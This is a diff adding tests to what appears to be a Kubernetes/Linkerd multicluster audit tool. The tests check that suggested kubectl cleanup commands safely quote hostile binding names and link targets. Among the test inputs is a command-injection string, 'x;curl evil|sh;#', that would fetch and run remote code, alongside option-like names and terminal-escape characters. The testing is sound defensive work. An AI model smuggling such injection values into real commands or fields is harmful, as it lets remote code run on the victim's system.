@@ -299,6 +299,27 @@ describe("links", () => {
             ]);
         });
 
+        it("have rights by bindings whose names kubectl or a shell would obey", () => {
+            const names = ["--all", "x;curl evil|sh;#", "\u202Ead\u001B[2Kmin"];
+            mesh.setCredentials("cluster1", "cluster2", {
+                seen: {
+                    excess: ["get secrets"],
+                    grants: names.map((name) => ({ kind: "rolebinding", name, namespace: "shop" })),
+                },
+            });
+            const here = "kubectl --context cluster2 --namespace shop delete";
+            assert.deepEqual(
+                findings().map(({ remedy }) => remedy.split("\n")),
+                [
+                    [
+                        `${here} rolebinding/--all`,
+                        `${here} rolebinding 'x;curl evil|sh;#'`,
+                        String.raw`${here} rolebinding $'\342\200\256ad\033[2Kmin'`,
+                    ],
+                ],
+            );
+        });
+
         it("have rights that no binding of others explains: the program's own role was changed", () => {
             mesh.setCredentials("cluster1", "cluster2", { seen: { excess: ["get secrets"] } });
             assert.deepEqual(
@@ -354,6 +375,18 @@ describe("links", () => {
                 },
             ]);
         });
+
+        for (const target of ["x;curl evil|sh;#", "=cluster2", "a,b!=c", "-l"]) {
+            it(`go alone where nothing can have their target as its label: ${target}`, () => {
+                foreign("linkerd", { target });
+                assert.deepEqual(
+                    findings().map(({ remedy }) => remedy),
+                    [
+                        "kubectl --context cluster1 --namespace linkerd-multicluster delete links.multicluster.linkerd.io old",
+                    ],
+                );
+            });
+        }
 
         it("go alone where their target is the configuration's too, whose Secrets and mirrors stay", () => {
             foreign("linkerd", { target: "cluster2" });
